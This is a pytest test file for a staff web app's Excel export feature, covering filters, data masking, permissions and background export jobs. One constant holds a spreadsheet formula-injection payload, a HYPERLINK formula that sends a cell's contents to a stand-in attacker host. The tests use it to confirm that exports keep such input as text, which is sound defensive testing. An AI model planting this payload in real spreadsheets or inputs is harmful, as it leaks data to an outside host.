"""导出 Excel on every staff list (issue 13, Lists): the active filter applies, Chinese
headers, frozen and filterable header, widths from the content, personal data masked, text
never a formula; big exports become an 导出任务 with progress and a download only its owner
(or 管理员) finds."""
from __future__ import annotations

import datetime as dt
import io
import re
import time
import zipfile

import pytest
from openpyxl import load_workbook

from app.models import ExportJob
from app.services import export_jobs, jobs
from app.views._export import ExportMixin
from tests.conftest import STAFF_PASSWORD, login, login_staff
from tests.test_certificate import _issue, passed  # noqa: F401 — the fixture is used below
from tests.test_jobs import broker, redis_url, workers  # noqa: F401 — the worker's fixtures

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _export_views(app) -> list:
    return [v for v in app.appbuilder.baseviews
            if isinstance(v, ExportMixin) and "can_export" in (v.base_permissions or [])]


def _book(data: bytes):
    return load_workbook(io.BytesIO(data)).active


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return "".join(zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/"))


def _expected_count(app, view, filters: dict[str, str] | None = None) -> int:
    """The list's own count for these filter arguments (what the list page says: 共 N 条)."""
    from app.extensions import db

    qs = "&".join(f"{k}={v}" for k, v in (filters or {}).items())
    with app.test_request_context(f"/x/?{qs}"):
        _query, count = view.export_query(db.session)
        db.session.remove()
    return count


def _route(view) -> str:
    return f"{view.route_base}/export/"


@pytest.fixture
def seeded(app, make_expert, passed):  # noqa: F811
    """A little of everything: experts (one with a formula as 工作单位), a round with
    enrolments, orders and a certificate, audit entries from the logins."""
    evil = make_expert("导出公式", employer=EVIL)
    plain = make_expert("导出普通", prefecture="喀什地区")
    good = passed("导出合格")
    _issue(app, good)
    passed("导出未缴费", paid=False, round_id=good.round_id)
    return {"evil": evil, "plain": plain, "good": good}


def test_every_staff_list_exports_what_it_lists(app, seeded):
    views = _export_views(app)
    names = {type(v).__name__ for v in views}
    for wanted in ("ExpertAdminView", "ReviewQueueView", "TransferRequestAdminView",
                   "ProfileChangeAdminView", "PaymentOrderAdminView", "CertificateAdminView",
                   "AuditEventView", "TrainingStatusView", "ImportBatchAdminView"):
        assert wanted in names
    client = app.test_client()
    login_staff(client, "testadmin")
    secrets = [seeded["evil"].id_number, seeded["evil"].phone, seeded["plain"].id_number,
               seeded["plain"].phone, seeded["good"].id_number, seeded["good"].phone]
    failures = []
    for view in views:
        name = type(view).__name__
        resp = client.get(_route(view))
        if resp.status_code != 200 or not resp.mimetype.endswith("spreadsheetml.sheet"):
            failures.append(f"{name}: {resp.status_code} {resp.mimetype}")
            continue
        ws = _book(resp.data)
        rows = list(ws.iter_rows(values_only=True))
        header = list(rows[0])
        if header != view.export_header():
            failures.append(f"{name}: header {header}")
        if not all(re.search(r"[\u4e00-\u9fff]", h or "") for h in header):
            failures.append(f"{name}: a header not in Chinese: {header}")
        if ws.freeze_panes != "A2":
            failures.append(f"{name}: header not frozen")
        if ws.auto_filter.ref != f"A1:{ws.cell(1, len(header)).column_letter}{len(rows)}":
            failures.append(f"{name}: autofilter {ws.auto_filter.ref} for {len(rows)} rows")
        if not all(ws.column_dimensions[ws.cell(1, i + 1).column_letter].width
                   for i in range(len(header))):
            failures.append(f"{name}: a column without width")
        expected = _expected_count(app, view)
        if len(rows) - 1 != expected:
            failures.append(f"{name}: {len(rows) - 1} rows, the list counts {expected}")
        text = str(rows)
        leaked = [s for s in secrets if s in text]
        if leaked:
            failures.append(f"{name}: personal data in full: {leaked}")
        if "<f>" in _sheet_xml(resp.data):
            failures.append(f"{name}: a formula")
        if re.search(r"\d{2}:\d{2}:\d{2}\.\d", text):
            failures.append(f"{name}: a time with microseconds")
    assert not failures, "\n".join(failures)


def test_the_active_filter_applies(app, seeded):
    from app.extensions import db
    from app.models import Prefecture

    client = app.test_client()
    login_staff(client)
    resp = client.get("/expertadminview/export/?_flt_0_name=导出公式")
    rows = list(_book(resp.data).iter_rows(values_only=True))
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1]))
    assert row["姓名"] == "导出公式"
    assert row["工作单位"] == EVIL  # typed text, kept as text
    cell = _book(resp.data).cell(2, rows[0].index("工作单位") + 1)
    assert cell.data_type == "s"
    assert row["身份证号"] != seeded["evil"].id_number and "*" in row["身份证号"]
    assert row["是否接受远程异地评标"] in ("是", "否", None)

    with app.app_context():
        kashgar = db.session.query(Prefecture).filter_by(name="喀什地区").one().id
        db.session.remove()
    flt = {"_flt_0_prefecture": str(kashgar), "_flt_0_name": "导出"}
    resp = client.get("/expertadminview/export/?" + "&".join(f"{k}={v}" for k, v in flt.items()))
    rows = list(_book(resp.data).iter_rows(values_only=True))
    names = [dict(zip(rows[0], r))["姓名"] for r in rows[1:]]
    assert "导出普通" in names and "导出公式" not in names
    view = next(v for v in _export_views(app) if type(v).__name__ == "ExpertAdminView")
    assert len(names) == _expected_count(app, view, flt)

    # 缴费订单: amounts in 元, the header says so
    resp = client.get("/paymentorderadminview/export/?_flt_0_status=待支付")
    rows = list(_book(resp.data).iter_rows(values_only=True))
    assert any("元" in h for h in rows[0]) and not any("（分）" in h for h in rows[0])
    statuses = {dict(zip(rows[0], r))["状态"] for r in rows[1:]}
    assert statuses == {"待支付"}
    amounts = {dict(zip(rows[0], r))["金额（元）"] for r in rows[1:]}
    assert "300.00" in amounts


def test_the_button_is_on_the_lists_and_carries_the_filter(app, seeded):
    client = app.test_client()
    login_staff(client)
    html = client.get("/expertadminview/list/?_flt_0_name=导出").get_data(True)
    assert 'id="export-excel"' in html
    assert "/expertadminview/export/?_flt_0_name=" in html
    html = client.get("/paymentorderadminview/list/").get_data(True)
    assert 'id="export-excel"' in html and "/paymentorderadminview/export/" in html


def test_who_may_export(app, seeded):
    expert = app.test_client()
    login(expert, seeded["plain"].username, seeded["plain"].password)
    for url in ("/expertadminview/export/", "/auditeventview/export/",
                "/training/status/export/"):
        resp = expert.get(url)
        assert resp.status_code in (302, 403), url
        assert resp.status_code == 403 or "/login" in resp.headers["Location"]
    anonymous = app.test_client()
    resp = anonymous.get("/expertadminview/export/")
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]
    # 审核人员 has no 审计日志: neither its list nor its export
    reviewer = app.test_client()
    login_staff(reviewer)
    assert reviewer.get("/auditeventview/export/").status_code in (302, 403)
    html = reviewer.get("/expertadminview/list/").get_data(True)
    assert 'id="export-excel"' in html


def _second_reviewer(app) -> str:
    from app.extensions import db
    from app.services.demo import create_staff_user
    from app.services.roles import ROLE_REVIEWER

    with app.app_context():
        sm = app.appbuilder.sm
        if sm.find_user(username="exportother") is None:
            create_staff_user(sm, "exportother", "另一审核员", "exportother@example.gov.cn",
                              ROLE_REVIEWER, STAFF_PASSWORD)
        db.session.commit()
        db.session.remove()
    return "exportother"


@pytest.mark.commits  # the job runs in a session of its own: it must see committed rows
def test_a_big_export_is_a_background_job_with_progress_and_download(app, make_expert):
    from app.extensions import db

    for i in range(3):
        make_expert(f"后台导出{i}")
    other = _second_reviewer(app)
    client = app.test_client()
    login_staff(client)
    saved = {k: app.config[k] for k in ("EXPORT_SYNC_MAX_ROWS", "EXPORT_JOB_INLINE",
                                        "EXPORT_PROGRESS_EVERY")}
    app.config.update(EXPORT_SYNC_MAX_ROWS=2, EXPORT_JOB_INLINE=True, EXPORT_PROGRESS_EVERY=1)
    try:
        resp = client.get("/expertadminview/export/?_flt_0_name=后台导出")
        assert resp.status_code == 302
        job_url = resp.headers["Location"]
        assert "/exports/job/" in job_url
        page = client.get(job_url)
        assert page.status_code == 200 and 'id="export-bar"' in page.get_data(True)
        assert "nonce=" in page.get_data(True)
        status = client.get(job_url.rstrip("/") + "/status").get_json()
        assert status == {**status, "status": "已完成", "total": 3, "done": 3, "percent": 100,
                          "finished": True}
        download = client.get(status["download_url"])
        assert download.status_code == 200
        rows = list(_book(download.data).iter_rows(values_only=True))
        assert sorted(dict(zip(rows[0], r))["姓名"] for r in rows[1:]) == [
            "后台导出0", "后台导出1", "后台导出2"]
        job_path = job_url.split("localhost", 1)[-1].rstrip("/")
        mine = client.get("/exports/").get_data(True)
        assert job_path in mine and "下载文件" in mine

        # another reviewer finds no such job; 管理员 does
        stranger = app.test_client()
        login_staff(stranger, other)
        for suffix in ("", "/status", "/download"):
            assert stranger.get(job_url.rstrip("/") + suffix).status_code == 404
        theirs = stranger.get("/exports/").get_data(True)
        assert job_path not in theirs and "暂无导出任务" in theirs
        admin = app.test_client()
        login_staff(admin, "testadmin")
        assert admin.get(status["download_url"]).status_code == 200

        # the same message delivered again writes nothing new
        job_id = int(job_url.rstrip("/").rsplit("/", 1)[1])
        with app.app_context():
            job = db.session.get(ExportJob, job_id)
            jobs.run(export_jobs.TASK_EXPORT, job.id, job.task_id)
            again = db.session.get(ExportJob, job_id)
            db.session.refresh(again)
            assert again.done == 3 and again.is_done
            folder = export_jobs.export_path(app.config["UPLOAD_FOLDER"], "x").parent
            assert [p.name for p in folder.iterdir() if p.name.startswith(f"{job_id}-")] == [
                again.stored_name]
            db.session.remove()
    finally:
        app.config.update(saved)


def test_export_job_pages_refuse_strangers_and_nonsense(app):
    client = app.test_client()
    login_staff(client)
    for url in ("/exports/job/999999", "/exports/job/999999/status",
                "/exports/job/999999/download", "/exports/job/99999999999999999999"):
        assert client.get(url).status_code == 404, url
    assert client.get("/exports/").status_code == 200
    anonymous = app.test_client()
    assert anonymous.get("/exports/job/1").status_code == 302


def test_xlsx_widths_count_chinese_double(app):
    from app.services.export import column_widths, display_width, xlsx

    assert display_width("新疆") == 4 and display_width("ab") == 2
    assert column_widths(["姓名", "x"], [["买买提·艾力", "1"]]) == [13, 6]
    ws = _book(xlsx([("表", ["姓名", "工作单位"], [["张三", "新疆某建设集团有限公司"]])]))
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:B2"
    assert ws.column_dimensions["B"].width == 24
    assert ws["A1"].font.bold


@pytest.mark.commits  # the worker reads the rows from its own connection
def test_a_big_export_runs_on_a_real_worker(app, make_expert, workers):  # noqa: F811
    for i in range(3):
        make_expert(f"工人导出{i}")
    workers()
    client = app.test_client()
    login_staff(client)
    saved = app.config["EXPORT_SYNC_MAX_ROWS"]
    app.config["EXPORT_SYNC_MAX_ROWS"] = 2
    try:
        resp = client.get("/expertadminview/export/?_flt_0_name=工人导出")
    finally:
        app.config["EXPORT_SYNC_MAX_ROWS"] = saved
    assert resp.status_code == 302
    status_url = resp.headers["Location"].rstrip("/") + "/status"
    deadline = time.monotonic() + 120
    while True:
        status = client.get(status_url).get_json()
        if status["finished"] or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    assert status == {**status, "status": "已完成", "done": 3, "percent": 100}, status
    rows = list(_book(client.get(status["download_url"]).data).iter_rows(values_only=True))
    assert sorted(dict(zip(rows[0], r))["姓名"] for r in rows[1:]) == [
        "工人导出0", "工人导出1", "工人导出2"]


def test_old_exports_are_cleaned_up_with_their_files(app):
    from app.extensions import db
    from app.models import AppUser, ExportStatus, utcnow

    with app.app_context():
        user = db.session.query(AppUser).filter_by(username="testreviewer").one()
        now = utcnow()
        folder = export_jobs.export_path(app.config["UPLOAD_FOLDER"], "x").parent
        folder.mkdir(parents=True, exist_ok=True)
        kept, old = [ExportJob(user_id=user.id, view_name="ExpertAdminView", title="专家列表",
                               status=ExportStatus.DONE.value, total=1, done=1,
                               stored_name=f"clean-{age}.xlsx", created_at=now - dt.timedelta(days=age))
                     for age in (1, 30)]
        db.session.add_all([kept, old])
        db.session.flush()
        for job in (kept, old):
            (folder / job.stored_name).write_bytes(b"x")
        removed = export_jobs.remove_old(db.session, app.config["UPLOAD_FOLDER"], now,
                                         dt.timedelta(days=app.config["EXPORT_KEEP_DAYS"]))
        assert removed >= 1
        assert db.session.get(ExportJob, kept.id) is not None
        assert (folder / "clean-1.xlsx").exists() and not (folder / "clean-30.xlsx").exists()
        (folder / "clean-1.xlsx").unlink()
        db.session.remove()
